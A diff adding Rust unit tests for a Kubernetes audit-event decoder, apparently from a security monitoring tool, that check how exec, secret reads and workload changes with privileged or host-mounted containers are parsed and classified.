+    fn v1_event_timed_by_request_received_only() {
+        let text = event_with(
+            r#""stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/secrets/db","verb":"get","user":{"username":"bob","uid":"u-1","groups":["dev","system:authenticated"]},"sourceIPs":["192.0.2.9"],"userAgent":"curl/8.5.0","objectRef":{"resource":"secrets","namespace":"default","name":"db","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":403},"requestReceivedTimestamp":"2024-05-14T09:12:03.512345Z""#,
+        );
+        let decoded = decode_ok(&text);
+        let event = &decoded.event;
+        assert!(decoded.evaluate);
+        assert_eq!(event.time_ns, Some(1_715_677_923_512_345_000));
+        assert_eq!(event.action, Action::ResourceGet);
+        assert_eq!(event.request_id.as_deref(), Some("a1"));
+        assert_eq!(event.response_code, Some(403));
+        let principal = event.principal.as_ref().unwrap();
+        assert_eq!(principal.uid.as_deref(), Some("u-1"));
+        assert_eq!(principal.groups, vec!["dev", "system:authenticated"]);
+        assert_eq!(principal.user_agent.as_deref(), Some("curl/8.5.0"));
+        // Strings without escapes are borrowed from the record.
+        assert!(matches!(principal.name, Cow::Borrowed(_)));
+        assert!(matches!(
+            event.workload.as_ref().unwrap().name,
+            Some(Cow::Borrowed(_))
+        ));
+        assert_eq!(event.workload.as_ref().unwrap().kind, "Secret");
+    }
+
+    #[test]
+    fn stage_decides_evaluation() {
+        let with_stage = |stage: &str, verb: &str, sub: &str| {
+            let stage = if stage.is_empty() {
+                String::new()
+            } else {
+                format!(r#""stage":"{stage}","#)
+            };
+            let sub = if sub.is_empty() {
+                String::new()
+            } else {
+                format!(r#","subresource":"{sub}""#)
+            };
+            let text = event_with(&format!(
+                r#"{stage}"verb":"{verb}","objectRef":{{"resource":"pods","namespace":"a","name":"p"{sub}}}"#
+            ));
+            decode_ok(&text).evaluate
+        };
+        assert!(!with_stage("RequestReceived", "create", ""));
+        assert!(with_stage("ResponseComplete", "create", ""));
+        assert!(with_stage("Panic", "create", ""));
+        assert!(!with_stage("ResponseStarted", "create", ""));
+        assert!(with_stage("", "create", ""), "a missing stage is evaluated");
+        assert!(with_stage("ResponseStarted", "create", "exec"));
+        assert!(!with_stage("ResponseComplete", "create", "exec"));
+        assert!(!with_stage("RequestReceived", "get", "exec"));
+        assert!(with_stage("ResponseStarted", "create", "attach"));
+        assert!(with_stage("ResponseStarted", "create", "portforward"));
+        assert!(!with_stage("ResponseComplete", "create", "portforward"));
+        assert!(with_stage("ResponseStarted", "watch", ""));
+        assert!(!with_stage("ResponseComplete", "watch", ""));
+        assert!(with_stage("ResponseComplete", "get", "log"));
+    }
+
+    #[test]
+    fn exec_over_websocket_with_percent_encoding() {
+        let text = event_with(
+            r#""stage":"ResponseStarted","requestURI":"/api/v1/namespaces/prod/pods/web-1/exec?command=sh\u0026command=-c\u0026command=id%20-u\u0026container=init-setup\u0026stdin=true\u0026tty=true","verb":"get","user":{"username":"alice"},"objectRef":{"resource":"pods","namespace":"prod","name":"web-1","apiVersion":"v1","subresource":"exec"},"responseStatus":{"metadata":{},"code":101}"#,
+        );
+        let decoded = decode_ok(&text);
+        assert!(decoded.evaluate);
+        let event = &decoded.event;
+        assert_eq!(event.action, Action::ContainerExec);
+        assert_eq!(event.raw_action, "get");
+        let process = event.process.as_ref().unwrap();
+        assert_eq!(process.args, vec!["sh", "-c", "id -u"]);
+        assert_eq!(process.executable.as_deref(), Some("sh"));
+        assert_eq!(process.command_line.as_deref(), Some("sh -c id -u"));
+        assert_eq!(
+            names(event),
+            vec![("init-setup".to_owned(), ContainerRole::Main)]
+        );
+    }
+
+    #[test]
+    fn exec_query_borrows_when_nothing_is_escaped() {
+        let query = ExecQuery::of(&Cow::Borrowed(
+            "/x/exec?command=ls&command=a+b&command=%ZZ&container=c&container=d",
+        ));
+        assert!(matches!(query.command[0], Cow::Borrowed("ls")));
+        assert_eq!(query.command, vec!["ls", "a b", "%ZZ"]);
+        assert_eq!(query.container.as_deref(), Some("c"));
+        assert_eq!(percent_decode("%E2%9C%93%ff"), "\u{2713}\u{fffd}");
+        assert!(process_of(ExecQuery::of(&Cow::Borrowed("/x/attach")).command).is_none());
+    }
+
+    fn workload_event(resource: &str, group: &str, verb: &str, request_object: &str) -> String {
+        event_with(&format!(
+            r#""stage":"ResponseComplete","verb":"{verb}","user":{{"username":"alice"}},"objectRef":{{"resource":"{resource}","namespace":"prod","name":"w","apiGroup":"{group}","apiVersion":"v1"}},"responseStatus":{{"code":201}},"requestObject":{request_object}"#
+        ))
+    }
+
+    const POD_SPEC: &str = r#"{"initContainers":[{"name":"setup","image":"busybox","command":["sh","-c","echo hi"],"volumeMounts":[{"name":"host","mountPath":"/h","readOnly":true,"subPath":"sub"}]},{"name":"proxy","image":"envoyproxy/envoy:v1.30","restartPolicy":"Always"}],"containers":[{"name":"app","image":"app:1","args":["--serve"],"securityContext":{"runAsUser":1000,"capabilities":{"add":["NET_RAW"]}}}],"volumes":[{"name":"host","hostPath":{"path":"/var/lib/"}},{"name":"logs","hostPath":{"path":"/var/log"}},{"name":"tmp","emptyDir":{}}],"securityContext":{"runAsUser":2000},"hostIPC":true,"restartPolicy":"Always"}"#;
+
+    #[test]
+    fn deployment_with_init_containers() {
+        let object = format!(
+            r#"{{"kind":"Deployment","apiVersion":"apps/v1","metadata":{{"name":"w","namespace":"prod"}},"spec":{{"replicas":2,"template":{{"metadata":{{"labels":{{"app":"w"}}}},"spec":{POD_SPEC}}}}}}}"#
+        );
+        let text = workload_event("deployments", "apps", "create", &object);
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::WorkloadCreate);
+        assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
+        assert_eq!(
+            names(&event),
+            vec![
+                ("app".to_owned(), ContainerRole::Main),
+                ("setup".to_owned(), ContainerRole::Init),
+                ("proxy".to_owned(), ContainerRole::Init),
+            ]
+        );
+        let app = by_name(&event, "app");
+        assert_eq!(app.security.user.as_deref(), Some("1000"));
+        assert_eq!(app.security.cap_add, vec!["NET_RAW"]);
+        assert_eq!(app.security.command, Some(vec![Cow::Borrowed("--serve")]));
+        assert_eq!(app.security.entrypoint, None);
+        assert_eq!(app.security.host_ipc, Some(true));
+        assert_eq!(app.security.restart_policy.as_ref().unwrap().name, "Always");
+        // `/var/log` is mounted by nobody, so it is on every container.
+        assert_eq!(app.security.host_mounts.len(), 1);
+        assert_eq!(app.security.host_mounts[0].host_path, "/var/log");
+        assert_eq!(app.security.host_mounts[0].container_path, None);
+
+        let setup = by_name(&event, "setup");
+        assert_eq!(setup.security.user.as_deref(), Some("2000"));
+        assert_eq!(setup.security.restart_policy, None);
+        assert_eq!(setup.security.entrypoint.as_ref().unwrap().len(), 3);
+        assert_eq!(
+            setup.security.host_mounts[0],
+            HostMount {
+                host_path: Cow::Borrowed("/var/lib/sub"),
+                container_path: Some(Cow::Borrowed("/h")),
+                read_only: true,
+            }
+        );
+        assert_eq!(setup.security.host_mounts[1].host_path, "/var/log");
+        assert_eq!(
+            by_name(&event, "proxy")
+                .security
+                .restart_policy
+                .as_ref()
+                .unwrap()
+                .name,
+            "Always"
+        );
+    }
+
+    #[test]
+    fn cronjob_with_init_containers() {
+        let object = format!(
+            r#"{{"kind":"CronJob","apiVersion":"batch/v1","metadata":{{"name":"w"}},"spec":{{"schedule":"* * * * *","jobTemplate":{{"spec":{{"backoffLimit":1,"template":{{"spec":{POD_SPEC}}}}}}}}}}}"#
+        );
+        let text = workload_event("cronjobs", "batch", "create", &object);
+        let event = decode_ok(&text).event;
+        assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
+        assert_eq!(
+            names(&event),
+            vec![
+                ("app".to_owned(), ContainerRole::Main),
+                ("setup".to_owned(), ContainerRole::Init),
+                ("proxy".to_owned(), ContainerRole::Init),
+            ]
+        );
+    }
+
+    #[test]
+    fn a_custom_resource_named_like_a_workload_is_not_read_as_one() {
+        let object =
+            format!(r#"{{"kind":"Deployment","spec":{{"template":{{"spec":{POD_SPEC}}}}}}}"#);
+        let text = workload_event("deployments", "example.com", "create", &object);
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::Other);
+        assert!(event.containers.is_empty());
+        assert_eq!(event.workload.unwrap().kind, "Deployment");
+
+        // Its spec may be anything.
+        let text = workload_event(
+            "widgets",
+            "example.com",
+            "create",
+            r#"{"kind":"Widget","spec":{"containers":7}}"#,
+        );
+        let event = decode_ok(&text).event;
+        assert_eq!(event.workload.unwrap().kind, "Widget");
+    }
+
+    #[test]
+    fn patch_documents() {
+        // A label patch: no pod spec, no containers, no error.
+        let text = workload_event(
+            "deployments",
+            "apps",
+            "patch",
+            r#"{"metadata":{"labels":{"tier":"web"}}}"#,
+        );
+        let decoded = decode_ok(&text);
+        assert_eq!(decoded.event.action, Action::WorkloadPatch);
+        assert!(decoded.event.containers.is_empty());
+        assert_eq!(
+            decoded.event.workload.as_ref().unwrap().name.as_deref(),
+            Some("w")
+        );
+
+        // A JSON patch is an array.
+        let text = workload_event(
+            "deployments",
+            "apps",
+            "patch",
+            r#"[{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true}]"#,
+        );
+        assert!(decode_ok(&text).event.containers.is_empty());
+
+        // A strategic merge patch names the containers it changes; what it does not set
+        // stays unknown.
+        let text = workload_event(
+            "deployments",
+            "apps",
+            "patch",
+            r#"{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"app"}],"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}"#,
+        );
+        let event = decode_ok(&text).event;
+        let app = by_name(&event, "app");
+        assert_eq!(app.security.privileged, Some(true));
+        assert_eq!(app.security.host_pid, None);
+        assert_eq!(app.image, None);
+
+        // A merge patch that does not fit the pod spec is skipped, not an error.
+        let text = workload_event("pods", "", "patch", r#"{"spec":{"containers":"oops"}}"#);
+        assert!(decode_ok(&text).event.containers.is_empty());
+    }
+
+    #[test]
+    fn response_object_wins_and_failures_fall_back_to_the_request() {
+        let request = r#"{"kind":"Pod","metadata":{"generateName":"p-"},"spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}"#;
+        // Denied: the response is a Status, the request still shows what was asked for.
+        let text = event_with(&format!(
+            r#""stage":"ResponseComplete","verb":"create","objectRef":{{"resource":"pods","namespace":"n"}},"responseStatus":{{"code":403}},"requestObject":{request},"responseObject":{{"kind":"Status","apiVersion":"v1","status":"Failure","code":403}}"#
+        ));
+        let event = decode_ok(&text).event;
+        assert_eq!(by_name(&event, "a").security.privileged, Some(true));
+        assert_eq!(event.workload.unwrap().name.as_deref(), Some("p-"));
+    }
+
+    #[test]
+    fn ephemeral_containers_subresource() {
+        let response = r#"{"kind":"Pod","metadata":{"name":"p","uid":"u"},"spec":{"hostPID":true,"containers":[{"name":"app","image":"app:1"}],"ephemeralContainers":[{"name":"debugger","image":"busybox","securityContext":{"privileged":true}}]}}"#;
+        let text = event_with(&format!(
+            r#""stage":"ResponseComplete","verb":"patch","objectRef":{{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"}},"requestObject":{{"spec":{{"ephemeralContainers":[{{"name":"debugger","image":"busybox"}}]}}}},"responseObject":{response}"#
+        ));
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::WorkloadPatch);
+        assert_eq!(
+            names(&event),
+            vec![("debugger".to_owned(), ContainerRole::Ephemeral)]
+        );
+        assert_eq!(event.containers[0].security.privileged, Some(true));
+        assert_eq!(event.containers[0].security.host_pid, Some(true));
+        assert_eq!(event.workload.unwrap().uid.as_deref(), Some("u"));
+
+        // Kubernetes 1.16-1.22: an `EphemeralContainers` body, update verb.
+        let text = event_with(
+            r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"},"requestObject":{"kind":"EphemeralContainers","apiVersion":"v1","metadata":{"name":"p"},"ephemeralContainers":[{"name":"dbg","image":"busybox"}]}"#,
+        );
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::WorkloadUpdate);
+        assert_eq!(
+            names(&event),
+            vec![("dbg".to_owned(), ContainerRole::Ephemeral)]
+        );
+        assert_eq!(event.containers[0].security.host_pid, None);
+    }
+
+    #[test]
+    fn list_and_watch() {
+        let with = |verb: &str, uri: &str, stage: &str| {
+            let text = event_with(&format!(
+                r#""stage":"{stage}","requestURI":"{uri}","verb":"{verb}","objectRef":{{"resource":"secrets","apiVersion":"v1"}}"#
+            ));
+            let decoded = decode_ok(&text);
+            (decoded.event.action, decoded.evaluate)
+        };
+        assert_eq!(
+            with("list", "/api/v1/secrets?limit=500", "ResponseComplete"),
+            (Action::ResourceList, true)
+        );
+        assert_eq!(
+            with("list", "/api/v1/secrets?watch=false", "ResponseComplete"),
+            (Action::ResourceList, true)
+        );
+        assert_eq!(
+            with(
+                "list",
+                "/api/v1/secrets?resourceVersion=1\\u0026watch=true",
+                "ResponseStarted"
+            ),
+            (Action::ResourceWatch, true)
+        );
+        assert_eq!(
+            with("list", "/api/v1/secrets?watch=1", "ResponseComplete"),
+            (Action::ResourceWatch, false)
+        );
+        assert_eq!(
+            with("watch", "/api/v1/secrets?watch=true", "ResponseStarted"),
+            (Action::ResourceWatch, true)
+        );
+        assert_eq!(
+            with("watch", "/api/v1/secrets?watch=true", "ResponseComplete"),
+            (Action::ResourceWatch, false)
+        );
+    }
+
+    #[test]
+    fn other_subresources_and_verbs() {
+        let with = |verb: &str, resource: &str, sub: &str| {
+            let sub = if sub.is_empty() {
+                String::new()
+            } else {
+                format!(r#","subresource":"{sub}""#)
+            };
+            let text = event_with(&format!(
+                r#""stage":"ResponseComplete","verb":"{verb}","objectRef":{{"resource":"{resource}","name":"x"{sub}}}"#
+            ));
+            decode_ok(&text).event.action
+        };
+        assert_eq!(with("update", "pods", "status"), Action::Other);
+        assert_eq!(with("create", "pods", "binding"), Action::Other);
+        assert_eq!(with("patch", "deployments", "scale"), Action::Other);
+        assert_eq!(with("get", "pods", "log"), Action::ResourceGet);
+        assert_eq!(with("update", "daemonsets", ""), Action::WorkloadUpdate);
+        assert_eq!(with("deletecollection", "pods", ""), Action::WorkloadDelete);
+        assert_eq!(with("create", "secrets", ""), Action::Other);
+        assert_eq!(with("create", "pods", "exec"), Action::ContainerExec);
+    }
+
+    #[test]
+    fn shape_errors_name_the_field_and_column() {
+        let missing_id = r#"{"kind":"Event","stage":"ResponseComplete","verb":"get"}"#;
+        match decode(missing_id) {
+            Err(DecodeError::Shape {
+                message, column, ..
+            }) => {
+                assert!(message.contains("auditID"), "{message}");
+                assert!(column > 1);
+            }
+            other => panic!("{other:?}"),
+        }
+        let missing_verb = r#"{"kind":"Event","auditID":"a","stage":"ResponseComplete"}"#;
+        assert!(
+            matches!(decode(missing_verb), Err(DecodeError::Shape { message, .. }) if message.contains("verb"))
+        );
+        let wrong_kind = r#"{"kind":"EventList","auditID":"a","verb":"get"}"#;
+        match decode(wrong_kind) {
+            Err(DecodeError::Shape { column, .. }) => assert_eq!(column, 19),
+            other => panic!("{other:?}"),
+        }
+        assert!(matches!(
+            decode(r#"{"auditID":"a","verb":"#),
+            Err(DecodeError::Syntax { .. })
+        ));
+
+        // A pod body that does not fit is located inside the record.
+        let text = r#"{"auditID":"a","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"kind":"Pod","spec":{"hostPID":"yes"}}}"#;
+        match decode(text) {
+            Err(DecodeError::Shape {
+                column, message, ..
+            }) => {
+                assert!(message.starts_with("requestObject: "), "{message}");
+                assert_eq!(
+                    &text[..column as usize],
+                    &text[..text.find("\"yes\"").unwrap() + 5]
+                );
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn v1beta1_timestamp_is_the_last_resort() {
+        let text = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1beta1","auditID":"a","verb":"get","timestamp":"2018-10-26T13:38:34Z"}"#;
+        let event = decode_ok(text).event;
+        assert_eq!(event.time_ns, Some(1_540_561_114_000_000_000));
+        assert!(event.workload.is_none());
+        assert!(event.principal.is_none());
+    }
 }
